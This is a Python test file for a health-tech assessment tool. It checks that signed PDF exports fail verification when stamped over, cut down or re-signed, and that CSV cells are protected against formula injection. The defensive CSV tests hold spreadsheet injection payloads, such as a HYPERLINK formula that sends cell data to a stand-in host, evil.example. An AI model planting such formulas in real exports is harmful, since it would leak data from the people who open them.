"""Exports that cannot be quietly altered (issue 12 item 6): every PDF export is signed with the
deployment's certificate (PAdES B-B, hidden field, whole file) and `verify-pdf` checks it against
the pinned certificate; a PDF naming no stored record fails against a store; every CSV cell a
spreadsheet could run is neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID
from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen.canvas import Canvas
from sqlalchemy import select
from typer.testing import CliRunner

from engine import service
from engine.cli import app
from engine.errors import SigningUnavailable
from engine.export import signing
from engine.export.documents import conditions_csv
from engine.export.pdf import ATTACHMENT, ID_KEY
from engine.export.verify import verify_pdf
from engine.store.tables import EventRow
from tests.conftest import cli_token, load_case

runner = CliRunner()
SIGNED = "signed (PAdES B-B) by"
WHOLE_FILE = "the signature covers the whole file"


# --- helpers ------------------------------------------------------------------------------------

def key_dir() -> Path:
    return Path(os.environ["DTPA_KEY_DIR"])


def stored_pdf(store, tmp_path: Path, kind: str = "pdf", case: str = "vbm-individual-decision.yaml"
               ) -> tuple[str, Path]:
    """A record saved and exported as a signed PDF (the first export makes the certificate)."""
    record = service.assess(load_case(case))
    view = store.save(load_case(case).model_dump(mode="json"), record, "Dr Ada Obi", "panel_chair")
    data, name = service.export_stored(view.row.id, kind, "Sam Patel", "dpo", store)
    path = tmp_path / name
    path.write_bytes(data)
    return view.row.id, path


def overlay() -> PdfReader:
    """A page with a large "SUPPORTED" on it, to stamp over page 1."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    canvas.setFont("Helvetica-Bold", 64)
    canvas.drawString(60, 700, "SUPPORTED")
    canvas.save()
    return PdfReader(io.BytesIO(buffer.getvalue()))


def incremental(data: bytes) -> PdfWriter:
    return PdfWriter(io.BytesIO(data), incremental=True)


def rewritten(data: bytes) -> PdfWriter:
    return PdfWriter(clone_from=io.BytesIO(data))


def written(writer: PdfWriter, path: Path) -> Path:
    with path.open("wb") as fh:
        writer.write(fh)
    return path


def other_identity(folder: Path) -> signing.SigningIdentity:
    """Someone else's self-signed certificate, made exactly as DTPA makes its own."""
    folder.mkdir(parents=True, exist_ok=True)
    assert signing._mint(folder)
    return signing._load_self_signed(folder / signing.KEY_FILE, folder / signing.CERT_FILE)


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def certificate_and_key(name: str, ca: bool = False
                        ) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
    """A self-signed certificate: for signing, or (ca=True) a CA that issues signing ones."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC)
    usage = (x509.KeyUsage(False, False, False, False, False, True, True, False, False) if ca
             else x509.KeyUsage(True, True, False, False, False, False, False, False, False))
    cert = (x509.CertificateBuilder().subject_name(_name(name)).issuer_name(_name(name))
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=365))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=0 if ca else None), critical=True)
            .add_extension(usage, critical=True)
            .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()),
                           critical=False)
            .sign(key, hashes.SHA256()))
    return key, cert


# --- signing ------------------------------------------------------------------------------------

def test_a_signed_audit_pdf_verifies_and_its_certificate_is_made_once_and_audited(store, tmp_path):
    record_id, path = stored_pdf(store, tmp_path)
    result = verify_pdf(path, store)
    assert result.ok, result.problems
    assert any(c.startswith(SIGNED) and "the pinned certificate" in c for c in result.checks)
    assert any(c.startswith(WHOLE_FILE) for c in result.checks)
    assert any(f"matches the stored record {record_id}" in c for c in result.checks)

    # One hidden signature field, PAdES (ETSI.CAdES.detached), certifying "no changes".
    reader = PdfReader(path)
    fields = [f for f in reader.get_fields().values() if f.get("/FT") == "/Sig"]
    assert len(fields) == 1
    signature = fields[0]["/V"].get_object()
    assert signature["/SubFilter"] == "/ETSI.CAdES.detached"
    start, first, second, rest = signature["/ByteRange"]
    assert start == 0 and second + rest == path.stat().st_size  # the whole file
    widget = next(a.get_object() for a in reader.pages[0]["/Annots"]
                  if a.get_object().get("/FT") == "/Sig")
    llx, lly, urx, ury = (float(v) for v in widget["/Rect"])
    assert urx - llx == 0 and ury - lly == 0  # invisible
    assert reader.trailer["/Root"]["/Perms"]["/DocMDP"]["/Reference"][0]["/TransformParams"]["/P"] == 1

    # The key is owner-only in an owner-only folder; making it is an audit event, once.
    assert stat.S_IMODE(key_dir().stat().st_mode) == 0o700
    assert stat.S_IMODE((key_dir() / signing.KEY_FILE).stat().st_mode) == 0o600
    stored_pdf(store, tmp_path, case="vbm-ward-wide-default.yaml")
    with store.db.read() as session:
        made = session.execute(select(EventRow).where(
            EventRow.action == "signing_certificate_created")).scalars().all()
    assert len(made) == 1 and made[0].actor == "Sam Patel"
    pem = (key_dir() / signing.CERT_FILE).read_bytes()
    assert made[0].detail["certificate_sha256"] == \
        signing.fingerprint(x509.load_pem_x509_certificate(pem))
    assert store.verify().ok


@pytest.mark.parametrize("how", [incremental, rewritten], ids=["incremental-update", "rewritten"])
def test_a_supported_overlay_on_page_one_fails(store, tmp_path, how):
    _, path = stored_pdf(store, tmp_path)
    writer = how(path.read_bytes())
    writer.pages[0].merge_page(overlay().pages[0])
    forged = written(writer, tmp_path / "overlay.pdf")
    assert "SUPPORTED" in PdfReader(forged).pages[0].extract_text()
    result = verify_pdf(forged, store)
    assert not result.ok
    expected = ("the signature does not cover the whole file" if how is incremental
                else "the signature does not match the file")
    assert any(p.startswith(expected) for p in result.problems), result.problems
    # Nothing else notices: the attached record, its stated hash and the store all still agree.
    assert any("matches the stored record" in c for c in result.checks)
    cli = runner.invoke(app, ["verify-pdf", str(forged), "--no-store"])
    assert cli.exit_code == 5 and f"FAILED: {expected}" in cli.output


@pytest.mark.parametrize("how", [incremental, rewritten], ids=["incremental-update", "rewritten"])
def test_the_findings_page_removed_fails(store, tmp_path, how):
    _, path = stored_pdf(store, tmp_path)
    writer = how(path.read_bytes())
    findings = next(i for i, page in enumerate(writer.pages)
                    if "Findings (" in (page.extract_text() or ""))
    writer.remove_page(findings)
    shorter = written(writer, tmp_path / "shorter.pdf")
    assert len(PdfReader(shorter).pages) == len(PdfReader(path).pages) - 1
    result = verify_pdf(shorter, store)
    assert not result.ok
    assert any(p.startswith(("the signature does not cover the whole file",
                             "the signature does not match the file")) for p in result.problems)


def test_a_pdf_re_signed_with_another_self_signed_key_fails_against_the_pinned_certificate(
        store, tmp_path):
    _, path = stored_pdf(store, tmp_path)
    # Altered, rebuilt without its signature, signed again by someone else.
    reader = PdfReader(path)
    writer = PdfWriter()
    for page in reader.pages:
        writer.add_page(page)
    writer.pages[0].merge_page(overlay().pages[0])
    writer.add_metadata(dict(reader.metadata))
    for name, contents in reader.attachments.items():
        writer.add_attachment(name, contents[0])
    unsigned = io.BytesIO()
    writer.write(unsigned)
    assert "not signed" in signing.check_signature(unsigned.getvalue(), []).problems[0]
    theirs = other_identity(tmp_path / "elsewhere")
    forged = tmp_path / "re-signed.pdf"
    forged.write_bytes(signing.sign_pdf(unsigned.getvalue(), theirs))
    result = verify_pdf(forged, store)
    assert any(f"SHA-256 {theirs.fingerprint}), which is not the pinned certificate" in p
               for p in result.problems), result.problems
    # Against their own certificate the signature holds: --cert chooses what is pinned.
    mine = tmp_path / "theirs.pem"
    mine.write_text(signing.certificate_pem(theirs.certificate))
    assert verify_pdf(forged, store, cert=mine).ok
    cli = runner.invoke(app, ["verify-pdf", str(forged), "--no-store", "--cert", str(mine)])
    assert cli.exit_code == 0, cli.output
    assert f"was signed by {theirs.certificate.subject.rfc4514_string()}" in cli.output
    cli = runner.invoke(app, ["verify-pdf", str(path), "--no-store", "--cert", str(mine)])
    assert cli.exit_code == 5 and "which is not the pinned certificate" in cli.output


def test_an_unsigned_pdf_fails(tmp_path):
    from engine.export.pdf import audit_pdf

    path = tmp_path / "unsigned.pdf"
    path.write_bytes(audit_pdf(service.assess(load_case("feedback-kiosk.yaml"))))
    service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")  # makes the certificate
    result = verify_pdf(path)
    assert result.problems == ["the PDF is not signed: its signature was removed, or the file was "
                               "rewritten or made elsewhere"]


# --- a PDF that names no stored record ----------------------------------------------------------

def test_a_forged_record_without_a_record_id_fails_against_the_store(store, tmp_path):
    # Someone with the host decides a made-up assessment and exports it, unstored: DTPA signs it,
    # but it names no stored record.
    data = load_case("vbm-individual-decision.yaml").model_dump(mode="json", exclude_none=True)
    data["title"] = "Approved by the panel"
    forged, _ = service.export_file(_write(tmp_path / "forged.json", data), "pdf")
    path = tmp_path / "forged.pdf"
    path.write_bytes(forged)
    assert PdfReader(path).metadata[ID_KEY] == ""
    alone = verify_pdf(path)  # the PDF alone: signed here, unaltered, not stored
    assert alone.ok and alone.record_id is None
    result = verify_pdf(path, store)
    assert not result.ok
    assert any(p.startswith("the PDF names no stored record") for p in result.problems)

    # A stored record's PDF with its id removed: the signature breaks, and the id is missing.
    _, stored = stored_pdf(store, tmp_path)
    writer = incremental(stored.read_bytes())
    writer.add_metadata({ID_KEY: ""})
    no_id = written(writer, tmp_path / "no-id.pdf")
    result = verify_pdf(no_id, store)
    assert any(p.startswith("the PDF names no stored record") for p in result.problems)
    assert any(p.startswith("the signature does not cover the whole file") for p in result.problems)


def _write(path: Path, data: dict) -> Path:
    path.write_text(json.dumps(data))
    return path


# --- bundles and the easy read -----------------------------------------------------------------

def test_a_bundle_and_an_easy_read_are_signed_and_verify_against_the_store(store, tmp_path):
    service.seed_case_studies(store)
    views = service.select_records(store, product="Contactless")
    pdf, _ = service.export_bundle(views, "Bundle", "Sam Patel", "dpo", store)
    bundle = tmp_path / "bundle.pdf"
    bundle.write_bytes(pdf)
    result = verify_pdf(bundle, store)
    assert result.ok, result.problems
    assert any(c.startswith(SIGNED) for c in result.checks)
    assert all(f"matches the stored record {v.row.id}" in result.checks for v in views)
    writer = incremental(pdf)
    writer.pages[0].merge_page(overlay().pages[0])
    assert not verify_pdf(written(writer, tmp_path / "bundle-overlay.pdf"), store).ok

    individual = next(v for v in store.latest(context="individual_use"))
    data, _ = service.export_stored(individual.row.id, "easy-read", "Sam Patel", "dpo", store)
    easy = tmp_path / "easy.pdf"
    easy.write_bytes(data)
    result = verify_pdf(easy, store)
    assert result.ok and result.record_id == individual.row.id, result.problems


# --- the trust's own certificate, and keeping the pinned one ------------------------------------

def test_a_trusts_own_pkcs12_certificate_signs_and_is_pinned(store, tmp_path, monkeypatch):
    key, cert = certificate_and_key("Example NHS Trust document signing")
    p12 = tmp_path / "trust.p12"
    p12.write_bytes(pkcs12.serialize_key_and_certificates(
        b"trust", key, cert, None, serialization.BestAvailableEncryption(b"s3cret")))
    monkeypatch.setenv("DTPA_PDF_SIGNING_PKCS12", str(p12))
    monkeypatch.setenv("DTPA_PDF_SIGNING_PASSPHRASE", "s3cret")
    _, path = stored_pdf(store, tmp_path)
    result = verify_pdf(path, store)
    assert result.ok, result.problems
    assert result.signer.startswith("CN=Example NHS Trust document signing")
    assert not (key_dir() / signing.KEY_FILE).exists()  # nothing self-signed was made
    monkeypatch.setenv("DTPA_PDF_SIGNING_PASSPHRASE", "wrong")
    with pytest.raises(SigningUnavailable, match="DTPA_PDF_SIGNING_PASSPHRASE is wrong"):
        service.export_stored(result.record_id, "pdf", "Sam Patel", "dpo", store)


def test_a_certificate_issued_by_the_ca_given_with_cert_verifies(tmp_path, monkeypatch):
    ca_key, ca = certificate_and_key("Example NHS Trust CA", ca=True)
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC)
    leaf = (x509.CertificateBuilder().subject_name(_name("Example NHS Trust signing"))
            .issuer_name(ca.subject).public_key(key.public_key()).serial_number(2)
            .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=90))
            .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False),
                           critical=True)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()),
                           critical=False)
            .sign(ca_key, hashes.SHA256()))
    (tmp_path / "trust.p12").write_bytes(pkcs12.serialize_key_and_certificates(
        b"trust", key, leaf, [ca], serialization.NoEncryption()))
    (tmp_path / "ca.pem").write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    monkeypatch.setenv("DTPA_PDF_SIGNING_PKCS12", str(tmp_path / "trust.p12"))
    data, _ = service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    (tmp_path / "out.pdf").write_bytes(data)
    result = verify_pdf(tmp_path / "out.pdf", cert=tmp_path / "ca.pem")
    assert result.ok, result.problems
    assert any("a certificate issued by the pinned one" in c for c in result.checks)
    _, stranger = certificate_and_key("Another CA", ca=True)
    (tmp_path / "other.pem").write_bytes(stranger.public_bytes(serialization.Encoding.PEM))
    assert not verify_pdf(tmp_path / "out.pdf", cert=tmp_path / "other.pem").ok


def test_a_trusts_own_pem_key_and_certificate_sign(tmp_path, monkeypatch):
    key, cert = certificate_and_key("Example NHS Trust PEM signing")
    (tmp_path / "key.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    (tmp_path / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    monkeypatch.setenv("DTPA_PDF_SIGNING_KEY", str(tmp_path / "key.pem"))
    monkeypatch.setenv("DTPA_PDF_SIGNING_CERT", str(tmp_path / "cert.pem"))
    data, _ = service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    (tmp_path / "out.pdf").write_bytes(data)
    result = verify_pdf(tmp_path / "out.pdf")
    assert result.ok and "Example NHS Trust PEM signing" in result.signer
    _, other = certificate_and_key("Not the same")
    (tmp_path / "cert.pem").write_bytes(other.public_bytes(serialization.Encoding.PEM))
    with pytest.raises(SigningUnavailable, match="does not belong to its certificate"):
        service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")


def test_a_missing_key_is_never_replaced_over_its_certificate_and_rotation_keeps_old_pdfs(
        tmp_path):
    first, _ = service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    (tmp_path / "first.pdf").write_bytes(first)
    (key_dir() / signing.KEY_FILE).chmod(0o644)
    with pytest.raises(SigningUnavailable, match="can be read by others"):
        service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    (key_dir() / signing.KEY_FILE).unlink()
    with pytest.raises(SigningUnavailable, match="restore the key from backup"):
        service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    # Retiring the certificate: a new pair is made, and PDFs signed before still verify.
    (key_dir() / signing.PREVIOUS).mkdir()
    (key_dir() / signing.CERT_FILE).rename(key_dir() / signing.PREVIOUS / "2026.pem")
    second, _ = service.export_file(Path("case_studies/feedback-kiosk.yaml"), "pdf")
    (tmp_path / "second.pdf").write_bytes(second)
    assert verify_pdf(tmp_path / "first.pdf").ok and verify_pdf(tmp_path / "second.pdf").ok
    listed = runner.invoke(app, ["signing-certificate", "-o", str(tmp_path / "current.pem")])
    assert listed.exit_code == 0, listed.output
    assert listed.output.count("used before:") == 1
    assert verify_pdf(tmp_path / "second.pdf", cert=tmp_path / "current.pem").ok
    assert not verify_pdf(tmp_path / "first.pdf", cert=tmp_path / "current.pem").ok


def test_processes_exporting_at_once_make_one_certificate():
    found: list[signing.SigningIdentity] = []
    threads = [threading.Thread(target=lambda: found.append(signing.deployment_identity()))
               for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len({i.fingerprint for i in found}) == 1
    assert sum(i.created for i in found) == 1
    assert sorted(p.name for p in key_dir().iterdir()) == [signing.CERT_FILE, signing.KEY_FILE]


def test_no_certificate_yet_is_said_plainly(tmp_path):
    result = runner.invoke(app, ["signing-certificate"])
    assert result.exit_code == 1 and "has not signed a PDF yet" in result.output + result.stderr
    from engine.export.pdf import audit_pdf

    theirs = other_identity(tmp_path / "elsewhere")
    path = tmp_path / "x.pdf"
    path.write_bytes(signing.sign_pdf(audit_pdf(service.assess(load_case("feedback-kiosk.yaml"))),
                                      theirs))
    assert any("no pinned certificate" in p for p in verify_pdf(path).problems)


# --- CSV cells a spreadsheet could run -----------------------------------------------------------

COLUMNS = ["record", "subject", "ward", "outcome_in_force", "rule", "principle_or_area",
           "condition", "owner", "due", "record_status"]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def _view(**hostile: str) -> SimpleNamespace:
    """A stored record as conditions_csv reads it, with any column's text chosen."""
    value = {c: f"ordinary {c}" for c in COLUMNS} | hostile
    due = SimpleNamespace(isoformat=lambda: value["due"])
    condition = SimpleNamespace(rule_id=value["rule"], owner=value["owner"], due=due,
                                principles=[value["principle_or_area"]], areas=[],
                                remedy=value["condition"])
    return SimpleNamespace(row=SimpleNamespace(id=value["record"], product=value["subject"],
                                               ward=value["ward"]),
                           effective_outcome=value["outcome_in_force"], status=value["record_status"],
                           record=SimpleNamespace(conditions=[condition]))


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize("prefix", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_csv_cell_that_a_spreadsheet_could_run_is_neutralised(column, prefix):
    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    text = conditions_csv([_view(**{column: payload})])
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row[column] == "'" + payload
    assert all(row[c] == f"ordinary {c}" for c in COLUMNS if c != column)  # the rest untouched


def test_a_formula_in_a_stored_product_name_is_neutralised_in_the_bundle_csv(store):
    data = load_case("vbm-individual-decision.yaml").model_dump(mode="json", exclude_none=True)
    data["technology"]["name"] = '=HYPERLINK("https://evil.example","Open")'
    view = service.save_assessment(service.validate_assessment(data), "Dr Ada Obi", "panel_chair",
                                   store)
    _, csv_text = service.export_bundle([view], "Bundle", "Sam Patel", "dpo", store)
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert rows and all(r["subject"] == "'=HYPERLINK(\"https://evil.example\",\"Open\")"
                        for r in rows)


def test_the_cli_verifies_a_signed_export_against_the_store(store, store_url, tmp_path):
    token = cli_token(store, "dpo")
    view = service.save_assessment(load_case("vbm-individual-decision.yaml"), "Dr Ada Obi",
                                   "panel_chair", store)
    made = runner.invoke(app, ["export", view.row.id, "--pdf", "--out-dir", str(tmp_path),
                               "--db", store_url], env={"DTPA_TOKEN": token})
    assert made.exit_code == 0, made.output
    result = runner.invoke(app, ["verify-pdf", str(tmp_path / f"{view.row.id}.pdf"),
                                 "--db", store_url])
    assert result.exit_code == 0, result.output
    assert f"ok: {SIGNED}" in result.output and f"carries record {view.row.id} unaltered" in \
        result.output
    assert json.loads(PdfReader(tmp_path / f"{view.row.id}.pdf").attachments[ATTACHMENT][0])
